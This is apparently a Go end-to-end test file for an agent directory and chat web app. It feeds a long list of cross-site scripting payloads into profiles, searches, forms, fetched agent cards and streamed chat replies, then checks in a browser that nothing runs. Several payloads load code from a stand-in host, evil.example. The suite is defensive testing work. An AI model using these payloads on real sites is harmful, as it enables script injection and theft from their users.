package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"agentsite/internal/app"
	"agentsite/internal/testing/apptest"
)

// far is where payloads call home to. Nothing may ever ask it.
const far = "//evil.example"

// payloads are what people have tried elsewhere: markup, broken markup,
// attributes, addresses, Markdown, templates, text that ends other text.
func payloads() []string {
	call := []string{
		`<script>xss()</script>`, `<SCRIPT>xss()</SCRIPT>`, `<scr<script>ipt>xss()</scr</script>ipt>`, `<script src=//evil.example/x.js></script>`,
		`<script type=module>xss()</script>`, `<script/x>xss()</script>`, `<script>xss()//`, `</script><script>xss()</script>`, "<script\n>xss()</script\n>",
		`<img src=x onerror=xss()>`, `<img src=x onerror="xss()"`, `<img src="x` + "`" + `onerror=xss()">`, `<IMG """><SCRIPT>xss()</SCRIPT>">`, `<img/src=x/onerror=xss()>`,
		`<img src=//evil.example/i.png>`, `<img srcset=//evil.example/i.png>`, `<image href=x onerror=xss()>`, `<picture><source srcset=//evil.example/p><img></picture>`,
		`<svg onload=xss()>`, `<svg/onload=xss()>`, `<svg><script>xss()</script></svg>`, `<svg><script href=//evil.example/s.js></script></svg>`, `<svg><animate onbegin=xss() attributeName=x dur=1s>`,
		`<svg><a xlink:href="javascript:xss()"><text y=9>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x"/></svg>`, `<svg><set attributeName=onmouseover to=xss()>`,
		`<svg><foreignObject><iframe onload=xss()></foreignObject></svg>`, `<svg><style><img src=x onerror=xss()></style></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=xss()>`,
		`<math href="javascript:xss()">x</math>`, `<math><maction actiontype="statusline#http://x" xlink:href="javascript:xss()">x</maction></math>`,
		`<body onload=xss()>`, `<html onfocus=xss()>`, `<body background=//evil.example/b>`, `<input autofocus onfocus=xss()>`, `<select autofocus onfocus=xss()>`, `<textarea autofocus onfocus=xss()>`,
		`<details open ontoggle=xss()>`, `<video src=x onerror=xss()>`, `<video><source onerror=xss()></video>`, `<audio src=//evil.example/a onerror=xss()>`, `<marquee onstart=xss()>`,
		`<iframe src="javascript:xss()"></iframe>`, `<iframe srcdoc="<script>parent.xss()</script>"></iframe>`, `<iframe src=//evil.example/></iframe>`, `<frameset onload=xss()>`,
		`<object data="javascript:xss()"></object>`, `<object data=//evil.example/o></object>`, `<embed src="javascript:xss()">`, `<embed src=//evil.example/e>`, `<applet code=xss>`,
		`<link rel=stylesheet href=//evil.example/s.css>`, `<link rel=prefetch href=//evil.example/p>`, `<link rel=preload as=image href=//evil.example/p>`, `<style>@import '//evil.example/s.css'</style>`,
		`<style>*{background:url(//evil.example/c)}</style>`, `<p style="background:url(//evil.example/c)">x</p>`, `<div style="position:fixed;inset:0">x</div>`,
		`<meta http-equiv=refresh content="0;url=javascript:xss()">`, `<meta http-equiv=refresh content="0;url=//evil.example/">`, `<base href=//evil.example/>`,
		`<form action=//evil.example/><button>x</button></form>`, `<form id=x></form><button form=x formaction="javascript:xss()">x</button>`, `<isindex action=javascript:xss() type=image>`,
		`<a href="javascript:xss()">x</a>`, `<a href=" javascript:xss()">x</a>`, "<a href=\"java\tscript:xss()\">x</a>", `<a href="&#106;avascript:xss()">x</a>`, `<a href=x onmouseover=xss()>x</a>`, `<a ping=//evil.example/ href=#>x</a>`,
		`<template><script>xss()</script></template>`, `<noscript><p title="</noscript><img src=x onerror=xss()>">`, `<plaintext><img src=x onerror=xss()>`, `<xmp><img src=x onerror=xss()></xmp>`,
		`<!--<img src="--><img src=x onerror=xss()//">`, `<![CDATA[<img src=x onerror=xss()>]]>`, `<?xml version="1.0"?><img src=x onerror=xss()>`, `<x onclick=xss() tabindex=0 autofocus onfocus=xss()>x</x>`,
		`" onmouseover="xss()" x="`, `' onfocus='xss()' autofocus='`, `"><script>xss()</script>`, `'><img src=x onerror=xss()>`, "` onerror=xss() x=`", `"/><svg/onload=xss()>`, `</title><script>xss()</script>`,
		`</textarea><script>xss()</script>`, `</bdi></a></h3><script>xss()</script>`, `--><script>xss()</script>`, `]]><script>xss()</script>`, `</template><script>xss()</script>`,
		`javascript:xss()`, `data:text/html,<script>xss()</script>`, `vbscript:xss()`,
		`[x](javascript:xss())`, `[x](JaVaScRiPt:xss())`, `[x](javascript&#58;xss())`, "[x](java\nscript:xss())", `[x](<javascript:xss()>)`, `[x](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)`, `[x](vbscript:xss())`,
		`[x](//evil.example/ "onmouseover=xss()")`, `[x]: javascript:xss()` + "\n\n[x]", `![x](//evil.example/i.png)`, `![x](javascript:xss())`, `![x](x"onerror="xss())`, `![x](data:image/svg+xml,<svg onload=xss()>)`,
		`<javascript:xss()>`, `<//evil.example/>`, "```html\n<script>xss()</script>\n```", "`<img src=x onerror=xss()>`", "~~~\" onmouseover=xss() x=\"\nx\n~~~", "    <script>xss()</script>", `**<img src=x onerror=xss()>**`,
		`| <img src=x onerror=xss()> |` + "\n|---|\n| <svg onload=xss()> |", `> <script>xss()</script>`, `1. <script>xss()</script>`, `# <script>xss()</script>`, `[<img src=x onerror=xss()>](/)`, `[^1]` + "\n\n[^1]: <script>xss()</script>",
		`{{constructor.constructor('xss()')()}}`, `${xss()}`, `#{xss()}`, `<%= xss() %>`, `{% xss %}`, `<div hx-get=//evil.example/ hx-trigger=load>x</div>`, `<div data-live-search=body data-focus tabindex=0>x</div>`,
		"\u202e<script>xss()</script>", "<script\u00a0>xss()</script>", "＜script＞xss()＜/script＞", "<\u200bscript>xss()</script>", `<img src=x onerror=&#120;ss()>`, `&lt;script&gt;xss()&lt;/script&gt;`, `&#60;script&#62;xss()&#60;/script&#62;`,
		`%3Cscript%3Exss()%3C/script%3E`, `\u003cscript\u003exss()\u003c/script\u003e`, `+ADw-script+AD4-xss()+ADw-/script+AD4-`, `<img src=x onerror=eval(atob('eHNzKCk='))>`, `<img src=x:x onerror=import('//evil.example/m.js')>`,
	}
	return call
}

// cut shortens a payload to what a field takes.
func cut(s string, most int) string {
	for utf8.RuneCountInString(s) > most {
		_, n := utf8.DecodeLastRuneInString(s)
		s = s[:len(s)-n]
	}
	return s
}

// intact is what no payload may put into a page: anything that could run or
// fetch, even where our policy would stop it.
const intact = `(() => {
	const wrong = [];
	const show = (el) => el.outerHTML.slice(0, 160);
	for (const el of document.querySelectorAll("*")) {
		for (const a of el.attributes) {
			if (/^on/i.test(a.name) || a.name === "style" || a.name === "srcdoc" || a.name === "ping" || /^hx-/.test(a.name)) wrong.push("attribute " + a.name + ": " + show(el));
			if (/^(href|src|srcset|action|formaction|data|poster|background|xlink:href)$/i.test(a.name) && !(el.tagName === "OPTION")) {
				const bare = a.value.replace(/[\u0000-\u0020]/g, "").toLowerCase();
				if (/^(javascript|data|vbscript|blob|file):/.test(bare)) wrong.push("address " + a.value + ": " + show(el));
			}
		}
	}
	for (const el of document.querySelectorAll("iframe, frame, object, embed, applet, base, style, math, marquee, video, audio, img, image, picture, foreignObject, animate, set, meta[http-equiv]")) {
		// The code of a profile's own address is the one picture here that is ours, and nothing but its address.
		if (el.matches("figure.hand-on-code > img") && new RegExp("^/agents/[a-z0-9-]+/qr[.]svg$").test(el.getAttribute("src")) && !el.srcset) continue;
		// Formulas of messages are allowed; the tests of handlers/markup check their elements and attributes.
		if (el.matches(".prose math") && !el.querySelector("maction, annotation-xml, mglyph, [href]")) continue;
		wrong.push("element: " + show(el));
	}
	for (const el of document.querySelectorAll("script")) if (!new URL(el.src, location).href.startsWith(location.origin + "/static/js/")) wrong.push("script: " + show(el));
	for (const el of document.querySelectorAll("link")) if (new URL(el.href).origin !== location.origin) wrong.push("link: " + show(el));
	for (const el of document.querySelectorAll("form")) if (new URL(el.getAttribute("action") || "", location).origin !== location.origin) wrong.push("form: " + show(el));
	for (const el of document.querySelectorAll("a[href]")) {
		if (new URL(el.href).origin !== location.origin && !/noopener/.test(el.rel)) wrong.push("link without noopener: " + show(el));
	}
	if (document.querySelectorAll("main").length !== 1 || document.querySelectorAll("h1").length !== 1 || !document.querySelector("body > main")) wrong.push("the page lost its shape");
	return wrong;
})()`

// safe fails when anything ran on the page or could.
func (b *tab) safe(where string) {
	b.t.Helper()
	// Where a pointer goes and what has the focus must run nothing either.
	eval[bool](b, `(() => {
		for (const d of document.querySelectorAll("details")) d.open = true;
		for (const el of document.querySelectorAll("main *")) for (const type of ["mouseover", "mouseenter", "focus", "pointerover"]) el.dispatchEvent(new Event(type));
		return true;
	})()`)
	for _, w := range eval[[]string](b, intact) {
		b.t.Errorf("%s: %s", where, w)
	}
	b.clean(where)
}

// TestXSS_WouldSee shows that the checks below see what they are for, on a page
// that escapes nothing.
func TestXSS_WouldSee(t *testing.T) {
	root := needBrowser(t)
	t.Parallel()
	csp := ""
	page := func(payload string) string {
		return "<!DOCTYPE html><title>x</title><link rel=icon href=data:,><body><main><h1>x</h1>" + payload + "</main>"
	}
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Security-Policy", csp)
		io.WriteString(w, page(r.URL.Query().Get("x")))
	}))
	defer s.Close()
	at, err := url.Parse(s.URL)
	if err != nil {
		t.Fatal(err)
	}
	b := visitAt(t, root, s.URL, desk)
	for _, c := range []struct{ policy, payload, want string }{
		{"", `<script>xss()</script>`, "xss()"},
		{"", `<script>alert(1)</script>`, "alert"},
		{"", `<img src=data:, onerror=xss()>`, "xss()"},
		{"", `<img src=//evil.example/i.png>`, "request elsewhere"},
		{"", `<script>throw new Error("ouch")</script>`, "exception"},
		{"script-src 'none'", `<script>xss()</script>`, "policy: script-src"},
	} {
		csp = c.policy
		b.open("/?x=" + url.QueryEscape(c.payload))
		b.until("a sign", `document.readyState === "complete" && (window.__ran || window.__breaches.length || document.images.length || document.scripts.length)`)
		if got := strings.Join(b.happened(), "; "); !strings.Contains(got, c.want) {
			t.Errorf("%s under %q: noticed %q, want %q", c.payload, c.policy, got, c.want)
		}
		if len(eval[[]string](b, intact)) == 0 || len(intactHTML(page(c.payload), at)) == 0 {
			t.Errorf("%s is taken for intact", c.payload)
		}
	}
}

// TestXSS puts every payload everywhere an outsider may put text, and looks at
// every page that shows it. In the reduced form a page has more payloads, the
// answers come in larger pieces, and the browser opens some of the pages of a
// kind: all others are checked as they are sent.
func TestXSS(t *testing.T) {
	onlyDrawn(t)
	root := needBrowser(t)
	t.Parallel()
	list := payloads()
	if len(list) < 100 {
		t.Fatalf("only %d payloads", len(list))
	}
	p := apptest.Start(t, func(c *app.Config) { c.Name = `Agora <script>xss()</script>` })
	mal := p.User(t, "mal")
	group, piece := 24, 16
	if full() {
		group, piece = 8, 1
	}
	// The model repeats each message, in pieces.
	model := newModel(t).answers(func(m string) (pieces []string) {
		for part := range slices.Chunk([]rune(m), piece) {
			pieces = append(pieces, string(part))
		}
		return pieces
	})

	// What is registered. No payload is a name.
	for i, x := range list {
		one := registration{Name: fmt.Sprintf("one-%d", i), Title: cut(x, 100), Description: x, Endpoint: model.base(),
			Skills: []skill{{ID: "s", Name: cut(x, 100), Tags: []string{cut(strings.ReplaceAll(x, ",", ""), 32)}, Examples: []string{x}}}}
		mal.Must(http.MethodPost, "/api/v1/agents", withKind(one), http.StatusCreated)
		one.Name = x
		mal.Must(http.MethodPost, "/api/v1/agents", withKind(one), http.StatusBadRequest)
	}
	// On a page of their own: several payloads an agent, in every field.
	var names []string
	for group := range slices.Chunk(list, group) {
		r := registration{Name: fmt.Sprintf("agent-%d", len(names)), Title: cut(group[0], 100), Description: cut(strings.Join(group, "\n\n"), 4000), Endpoint: model.base()}
		for i, x := range group {
			r.Skills = append(r.Skills, skill{ID: fmt.Sprintf("s%d", i), Name: cut(x, 100), Description: cut(x, 1000), Tags: []string{cut(strings.ReplaceAll(x, ",", ""), 32)}, Examples: []string{cut(x, 300)}})
		}
		a := mal.Do(http.MethodPost, "/api/v1/agents", withKind(r))
		if a.Status != http.StatusCreated {
			t.Fatalf("%v: %d %s", r, a.Status, a.Body)
		}
		names = append(names, r.Name)
	}
	each := func(name string, do func(t *testing.T, m *tab, mal *apptest.Client)) {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			m := visit(t, root, p, desk).as(mal)
			m.allow("400 (Bad Request)", "409 (Conflict)")
			do(t, m, mal.With(t))
		})
	}

	each("profiles", func(t *testing.T, m *tab, mal *apptest.Client) {
		var paths []string
		for i := range list {
			gets(t, p, mal, fmt.Sprintf("/agents/one-%d", i))
		}
		for _, name := range names {
			paths = append(paths, "/agents/"+name, "/agents/"+name+"/edit")
		}
		m.opensSafely(p, mal, 3, paths...)
		all := url.QueryEscape(strings.Join(list, "\n"))
		m.opensSafely(p, mal, 1, "/", "/account", "/agents/"+names[0]+"/versions", "/agents/"+names[0]+"?text="+all, "/chat/new?agent="+names[0]+"&text="+all)
		paths = nil
		for next := "/agents"; next != "" && len(paths) < 100; {
			paths = append(paths, next)
			next = linkOn(mal.Must(http.MethodGet, next, nil, http.StatusOK).Body, nextPage)
		}
		if len(paths) < 5 {
			t.Errorf("%d agents are on %d pages", len(list)+len(names), len(paths))
		}
		m.opensSafely(p, mal, 3, paths...)
		op := p.Operator(t, "op")
		o := visit(t, root, p, desk).as(op)
		o.opensSafely(p, op, 1, "/admin/agents")
	})

	// Text that is typed and shown again: searches, forms with errors.
	each("typed", func(t *testing.T, m *tab, mal *apptest.Client) {
		var searches, chats []string
		for i, group := range slices.Collect(slices.Chunk(list, 12)) {
			q := url.QueryEscape(strings.Join(group, " "))
			if i%2 == 1 {
				chats = append(chats, "/chat?agent="+q)
			} else {
				searches = append(searches, "/agents?q="+q+"&tag="+q+"&kind="+q)
			}
		}
		m.opensSafely(p, mal, 4, searches...)
		m.opensSafely(p, mal, 4, chats...)
		m.open("/agents")
		m.fill("#q", list[0]+list[9]+list[18]) // the list follows by script
		m.until("the search", `location.search.includes("script")`)
		m.safe("search while typing")
		m.form("openai")
		m.fill("#name", "calc")
		m.more()
		m.fill("#title", cut(strings.Join(list[9:14], ""), 100))
		m.fill("#description", strings.Join(list[:40], "\n"))
		m.fill("#endpoint", "https://evil.example/?"+url.QueryEscape(list[0]))
		m.fill("#notes", strings.Join(list[40:], "\n"))
		m.press(`button[name="save"]`)
		m.wrong("model")
		m.safe("a form with errors")

		// A card that is fetched.
		card := httptest.NewServer(nil)
		defer card.Close()
		for group := range slices.Chunk(list, 30) {
			var skills []map[string]any
			for i, x := range group {
				skills = append(skills, map[string]any{"id": fmt.Sprintf("s%d", i), "name": cut(x, 100), "description": x, "tags": []string{cut(x, 30)}, "examples": []string{x}})
			}
			body, err := json.Marshal(map[string]any{"name": cut(group[0]+group[9], 100), "description": strings.Join(group, " "), "version": group[1], "documentationUrl": "javascript:xss()", "iconUrl": "https:" + far + "/i.png",
				"provider": map[string]any{"organization": group[2], "url": "javascript:xss()"}, "capabilities": map[string]any{"streaming": true}, "defaultInputModes": []string{group[3]}, "defaultOutputModes": []string{"text/plain"},
				"supportedInterfaces": []any{map[string]any{"url": card.URL, "protocolBinding": "JSONRPC", "protocolVersion": "1.0"}}, "skills": skills})
			if err != nil {
				t.Fatal(err)
			}
			card.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", "application/json")
				w.Write(body)
			})
			m.open("/agents/new")
			m.fill("#url", card.URL)
			m.press(".fetch button")
			m.says("Found “")
			m.safe("a fetched card")
		}
		card.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			json.NewEncoder(w).Encode(map[string]any{"error": map[string]any{"message": list[0]}, "name": list[0]})
		})
		m.open("/agents/new")
		m.fill("#url", card.URL)
		m.press(".fetch button")
		m.safe("an address that lies")
	})

	// What is said and answered: over the socket as it comes, then as a page.
	each("said", func(t *testing.T, m *tab, mal *apptest.Client) {
		talk := mal.Conversation(names[0])
		live := list
		if !full() { // one payload a message is said where no browser looks on
			live = nil
			for some := range slices.Chunk(list, 4) {
				live = append(live, strings.Join(some, "\n\n"))
			}
			alone := mal.Conversation(names[0])
			stream := mal.Socket(alone)
			defer stream.Close()
			for _, x := range list {
				stream.Answered(mal.Say(alone, x).Tasks[0].ID)
			}
			m.opensSafely(p, mal, 3, pagesOf(mal, alone)...)
		}
		m.enterRoom(talk)
		for i, x := range live {
			mal.Say(talk, x)
			if n := i + 1; n%10 == 0 || n == len(live) {
				m.until("the answers", fmt.Sprintf(`document.querySelectorAll("[data-messages] .message:not(.message-mine)").length >= %d && !document.querySelector("[data-working] [data-task]")`, n))
			}
		}
		m.safe("a live conversation")
		for _, x := range []string{list[0], list[9], list[18]} {
			m.fill("#text", x) // the script shows it before the server has it
			m.enter()
		}
		m.until("what was typed", fmt.Sprintf(`document.querySelectorAll("[data-messages] .message").length >= %d && !document.querySelector("[data-working] [data-task]")`, 2*(len(live)+3)))
		m.safe("typed messages")
		m.opensSafely(p, mal, 3, pagesOf(mal, talk)...)

		// Deltas that never become a message whole: the page while it streams.
		model.answers(nil)
		for _, x := range []string{list[0], list[9], strings.Join(list, "\n")} {
			mal.Say(talk, "go")
			model.pieces <- x
			m.until("the stream", `document.querySelector("[data-working] [data-streamed]")?.textContent.includes(`+js(strings.SplitN(x, "\n", 2)[0])+`)`)
			m.safe("a stream")
			m.open("/chat/" + talk)
			m.until("the stream again", `document.querySelector("[data-working] [data-streamed]")?.textContent.includes(`+js(strings.SplitN(x, "\n", 2)[0])+`)`)
			m.safe("a stream after a reload")
			mal.Must(http.MethodPost, "/api/v1/conversations/"+talk+"/stop", map[string]any{}, http.StatusOK)
			<-model.stopped
			m.until("the end", `!document.querySelector("[data-working] [data-task]")`)
		}
	})

	// Titles of conversations: nobody opens more than a few at once.
	each("titles", func(t *testing.T, m *tab, mal *apptest.Client) {
		for i, group := range slices.Collect(slices.Chunk(list, 28)) {
			c := p.User(t, apptest.Fresh("who"))
			var id string
			for _, x := range group {
				var room struct{ ID string }
				c.Get(http.MethodPost, "/api/v1/conversations", map[string]any{"title": cut(x, 120), "members": []string{names[0]}}, http.StatusCreated, &room)
				id = room.ID
			}
			paths := []string{"/chat", "/chat/" + id}
			if full() || i%3 == 0 {
				visit(t, root, p, desk).as(c).opensSafely(p, c, 1, paths...)
				continue
			}
			for _, path := range paths {
				gets(t, p, c, path)
			}
		}

		// The guide quotes agents.
		found := mal.Conversation("guide")
		m.open("/chat/" + found)
		mal.Say(found, "who can script alert onerror")
		mal.Say(found, strings.Join(list[:6], " "))
		m.until("the guide", `document.querySelectorAll("[data-messages] .message:not(.message-mine)").length === 2`)
		m.safe("the guide")
		m.open("/chat/" + found)
		m.safe("the guide's page")
	})
}

// pagesOf are the addresses of all pages of a conversation, the last first.
func pagesOf(c *apptest.Client, id string) (paths []string) {
	for next := "/chat/" + id; next != "" && len(paths) < 100; {
		paths = append(paths, next)
		next = linkOn(c.Must(http.MethodGet, next, nil, http.StatusOK).Body, earlierPage)
		if strings.HasPrefix(next, "?") {
			next = "/chat/" + id + next
		}
	}
	return paths
}

// withKind is a registration as it is sent.
func withKind(r registration) registration {
	r.Kind, r.Visibility, r.Config = "openai", "public", map[string]string{"model": "story-1"}
	return r
}
